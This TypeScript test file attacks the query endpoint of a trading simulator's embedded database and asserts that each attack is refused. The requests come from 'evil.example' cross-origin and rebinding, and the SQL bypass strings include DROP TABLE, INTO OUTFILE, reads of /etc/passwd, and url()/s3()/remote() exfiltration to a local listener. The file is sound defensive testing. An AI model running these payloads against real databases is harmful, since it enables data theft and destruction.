import assert from 'node:assert/strict';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { type RunningSystem, runHft, startRunningSystem } from './running-system.ts';

// Attacks on `/api/query` of a running `hft run sim` with the embedded store (issue 17): the
// endpoint answers only authenticated, same-origin requests, and runs nothing but one read
// statement, engine-checked, in a read-only session with limits, off the recorder's path.

const MAX_EXECUTION_S = 8;
let sys: RunningSystem;

before(async () => {
  sys = await startRunningSystem([
    `ops.query.max_execution_s=${MAX_EXECUTION_S}`,
    'ops.query.max_result_rows=100000',
    'ops.query.max_memory_mb=256',
  ]);
});

after(async () => {
  await sys?.stop();
});

const url = (p: string) => new URL(p, sys.api.url).toString();
const auth = () => ({ authorization: `Bearer ${sys.api.token ?? ''}` });
const postQuery = (sql: string, headers: Record<string, string>, signal?: AbortSignal) =>
  fetch(url('api/query'), {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ sql, format: 'TSV' }),
    signal,
  });

/** A raw request (fetch refuses to send a foreign Host header). */
function raw(
  method: string,
  p: string,
  headers: Record<string, string>,
  body = '',
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request(url(p), { method, headers }, (res) => {
      let text = '';
      res.on('data', (d) => {
        text += d;
      });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** A statement through the API with the read token; the body text and status. */
async function asReader(sql: string): Promise<{ status: number; text: string }> {
  const res = await postQuery(sql, auth());
  return { status: res.status, text: await res.text() };
}

async function snapshot(): Promise<{
  safety: { level: string };
  recorder: { written: Record<string, number> } | null;
  services: { name: string; up: boolean }[];
}> {
  return (await fetch(url('api/snapshot'))).json();
}

test('the advertisement holds a per-process read token, readable by this user only', () => {
  const file = path.join(sys.store, '.api.json');
  assert.equal(statSync(file).mode & 0o777, 0o600, '.api.json is mode 0600');
  assert.match(sys.api.token ?? '', /^[0-9a-f]{64}$/, 'a 256-bit read token');
});

test('anonymous and wrong-token queries are refused (401)', async () => {
  const anon = await postQuery('SELECT 1', {});
  assert.equal(anon.status, 401);
  assert.doesNotMatch(await anon.text(), /^1/);
  assert.equal((await postQuery('SELECT 1', { authorization: 'Bearer 0123456789abcdef0123' })).status, 401);
  assert.equal((await postQuery('SELECT 1', { 'x-hft-token': 'nope' })).status, 401);
  const ok = await asReader('SELECT 1');
  assert.equal(ok.status, 200);
  assert.equal(ok.text.trim(), '1');
});

test('a cross-origin "simple" POST from a web page is refused before anything runs', async () => {
  // What a page on another site can send without a preflight: text/plain, its own Origin.
  const simple = await raw(
    'POST',
    'api/query',
    { 'content-type': 'text/plain', origin: 'http://evil.example', 'sec-fetch-site': 'cross-site' },
    JSON.stringify({ sql: 'SELECT 1' }),
  );
  assert.equal(simple.status, 403);
  // Even a page that somehow held the token gets nothing from another origin.
  const withToken = await raw(
    'POST',
    'api/query',
    { 'content-type': 'application/json', origin: 'http://evil.example', ...auth() },
    JSON.stringify({ sql: 'SELECT 1' }),
  );
  assert.equal(withToken.status, 403);
  assert.equal(
    (
      await raw(
        'POST',
        'api/query',
        { 'content-type': 'application/json', origin: 'null', ...auth() },
        '{"sql":"SELECT 1"}',
      )
    ).status,
    403,
  );
  // A same-origin request (the dashboard's own page) with the token is served.
  const host = new URL(sys.api.url).host;
  const same = await raw(
    'POST',
    'api/query',
    { 'content-type': 'application/json', origin: `http://${host}`, ...auth() },
    JSON.stringify({ sql: 'SELECT 2' }),
  );
  assert.equal(same.status, 200);
  assert.equal(same.body.trim(), '2');
  // A text/plain body (the only way to skip a preflight) is refused even with the token.
  assert.equal(
    (await raw('POST', 'api/query', { 'content-type': 'text/plain', ...auth() }, '{"sql":"SELECT 1"}'))
      .status,
    415,
  );
  // DNS rebinding: a page whose own name resolves to 127.0.0.1.
  const rebound = await raw(
    'POST',
    'api/query',
    { host: 'evil.example', 'content-type': 'application/json', ...auth() },
    '{"sql":"SELECT 1"}',
  );
  assert.equal(rebound.status, 421);
});

test('the read token cannot drive controls', async () => {
  const res = await fetch(url('api/control/halt'), { method: 'POST', headers: auth() });
  assert.equal(res.status, 401);
  assert.match((await res.json()).error, /read token cannot drive controls/);
  assert.notEqual((await snapshot()).safety.level, 'HALT');
});

test('every bypass string is refused, and none of them had an effect', async () => {
  const outfile = path.join(sys.dir, 'outfile.txt');
  const victim = path.join(sys.dir, 'victim.txt');
  writeFileSync(victim, 'precious\n');
  // A listener of our own: the exfiltration target of url().
  let hits = 0;
  const listener = http.createServer((req, res) => {
    hits++;
    req.resume();
    res.end('x\n');
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  const port = (listener.address() as AddressInfo).port;
  try {
    // The issue's own bypasses, as a user types them: through `hft db query` (exit 0 before).
    const cli = [
      "SELECT '--'; INSERT INTO hft.trades (strategy_id, symbol) VALUES ('evil-sec-test', 'EVIL')",
      "SELECT '/*'; DROP TABLE hft.trades; SELECT '*/'",
      `SELECT 'pwned' INTO OUTFILE '${victim}' TRUNCATE`,
    ];
    const results = await Promise.all(cli.map((sql) => runHft(['db', 'query', sql, ...sys.storeFlags])));
    results.forEach((r, i) => {
      assert.equal(r.code, 2, `refused with a user error: ${cli[i]}\n${r.stdout}${r.stderr}`);
      assert.match(r.stderr, /^hft: query refused by running process \d+: /, cli[i]);
      assert.doesNotMatch(r.stderr, /\n\s+at /, `no stack trace: ${cli[i]}`);
    });
    // The rest straight at the endpoint (the same path, without a CLI start-up each).
    const attacks = [
      'SELECT 1; SELECT 2',
      "SELECT 1; INSERT INTO hft.trades (strategy_id) VALUES ('evil-sec-test')",
      'DROP TABLE hft.trades',
      'TRUNCATE TABLE hft.trades',
      "INSERT INTO hft.trades (strategy_id) VALUES ('evil-sec-test')",
      'ALTER TABLE hft.trades DELETE WHERE 1',
      `SELECT 1 INTO OUTFILE '${outfile}'`,
      `SELECT 'pwned' INTO OUTFILE '${victim}' APPEND`,
      `SELECT 'pwned' INTO OUTFILE '${victim}' AND STDOUT`,
      `EXPLAIN SELECT 1 INTO OUTFILE '${outfile}'`,
      // A name with a line break adds lines to the printed tree: the OUTFILE is still seen.
      `SELECT 1 AS \`a\nEvil (children 1)\` INTO OUTFILE '${outfile}'`,
      `SHOW TABLES INTO OUTFILE '${outfile}'`,
      "SELECT * FROM file('/etc/passwd', 'LineAsString')",
      "SELECT file('/etc/passwd')",
      "SELECT (SELECT file('/etc/passwd'))",
      "DESCRIBE file('/etc/passwd', 'LineAsString')",
      `SELECT * FROM url('http://127.0.0.1:${port}/exfil?n=' || toString((SELECT count() FROM hft.market_data)), 'LineAsString')`,
      `INSERT INTO FUNCTION url('http://127.0.0.1:${port}/put', 'CSV', 'x String') SELECT 'leak'`,
      `SELECT count() FROM hft.trades WHERE symbol IN (SELECT * FROM url('http://127.0.0.1:${port}/in', 'LineAsString'))`,
      `EXPLAIN PIPELINE SELECT * FROM url('http://127.0.0.1:${port}/explain', 'LineAsString')`,
      `SELECT * FROM s3('http://127.0.0.1:${port}/bucket-name/key.csv', 'CSV', 'x String')`,
      `SELECT * FROM remote('127.0.0.1:${port}', system.one)`,
      'KILL QUERY WHERE 1',
      'SYSTEM FLUSH LOGS',
      'SELECT 1 SETTINGS readonly = 0',
      'SELECT 1 SETTINGS max_execution_time = 0',
    ];
    for (const sql of attacks) {
      const r = await asReader(sql);
      assert.ok(r.status === 400 || r.status === 422, `refused: ${sql} -> ${r.status} ${r.text}`);
      assert.doesNotMatch(r.text, /root:x:0:0/, `no file content: ${sql}`);
    }
    // Harmless: the table is there, no fake fill landed, no file written or changed, nothing sent.
    const exists = await asReader('EXISTS TABLE hft.trades');
    assert.equal(exists.text.trim(), '1', 'hft.trades still exists');
    const fake = await asReader("SELECT count() FROM hft.trades WHERE strategy_id = 'evil-sec-test'");
    assert.equal(fake.status, 200);
    assert.equal(fake.text.trim(), '0', 'no row inserted');
    assert.equal(existsSync(outfile), false, 'no OUTFILE written');
    assert.equal(readFileSync(victim, 'utf8'), 'precious\n', 'no file truncated or appended to');
    await new Promise((r) => setTimeout(r, 500));
    assert.equal(hits, 0, 'the listener got nothing');
  } finally {
    listener.close();
  }
});

test('a heavy query is stopped by its time limit while the recorder keeps recording', async () => {
  const written = async () => (await snapshot()).recorder?.written.market_data ?? 0;
  const w0 = await written();
  let done = false;
  const heavy = postQuery(
    'SELECT sum(sipHash64(number)) FROM system.numbers',
    auth(),
    AbortSignal.timeout(120_000),
  )
    .then(async (res) => ({ status: res.status, body: await res.text() }))
    .finally(() => {
      done = true;
    });
  // Rows keep landing in the store while the statement runs (the recorder flushes every 200 ms).
  let during = 0;
  const end = Date.now() + 90_000;
  while (!done && Date.now() < end) {
    const w = await written();
    if (w > w0 && !done) during = w - w0;
    if (during > 0) break;
    await new Promise((r) => setTimeout(r, 100));
  }
  assert.ok(during > 0, 'market-data rows were written while the heavy statement ran');
  assert.equal(done, false, 'the progress was seen before the statement ended');
  const r = await heavy;
  assert.equal(r.status, 422);
  assert.match(JSON.parse(r.body).error, /TIMEOUT_EXCEEDED|Timeout exceeded/);
  assert.ok((await written()) > w0);
  assert.ok(
    (await snapshot()).services.find((s) => s.name === 'recorder')?.up,
    'the recorder was never down',
  );
});

test('result size and memory limits stop a statement with a clear error', async () => {
  const rows = await asReader('SELECT number FROM system.numbers LIMIT 1000000');
  assert.equal(rows.status, 422);
  assert.match(JSON.parse(rows.text).error, /Limit for result exceeded|TOO_MANY_ROWS_OR_BYTES/);
  // ~1 GB of strings in a few rows: over the 256 MB limit at once, long before the time limit
  // (200M small strings took 5 s idle and ran into the 8 s time limit on a loaded machine).
  const mem = await asReader("SELECT length(groupArray(repeat('x', 1000000))) FROM numbers(1000)");
  assert.equal(mem.status, 422);
  assert.match(JSON.parse(mem.text).error, /memory limit exceeded|MEMORY_LIMIT_EXCEEDED/i);
  // The limits cannot be lifted by the statement (readonly freezes every setting).
  const lift = await asReader('SELECT 1 SETTINGS max_result_rows = 0');
  assert.equal(lift.status, 422);
  // A statement stopped mid-result leaves nothing behind for the next one.
  await asReader('SELECT number FROM system.numbers LIMIT 1000000');
  const next = await asReader('SELECT 42');
  assert.equal(next.status, 200);
  assert.equal(next.text, '42\n');
});

test('hft db query prints rows through the running process, and a limit as one line naming its key', async () => {
  const ok = await runHft([
    'db',
    'query',
    'SELECT count() >= 0 FROM hft.market_data',
    '--format',
    'TSV',
    ...sys.storeFlags,
  ]);
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(ok.stdout.trim(), '1');
  assert.match(ok.stderr, /answered through its API/);
  const big = await runHft([
    'db',
    'query',
    'SELECT number FROM system.numbers LIMIT 1000000',
    ...sys.storeFlags,
  ]);
  assert.equal(big.code, 2);
  assert.match(
    big.stderr,
    /^hft: query failed in running process \d+: .*TOO_MANY_ROWS_OR_BYTES.*ops\.query\.max_result_rows/,
  );
  assert.equal(big.stderr.trim().split('\n').length, 1, 'one line');
});
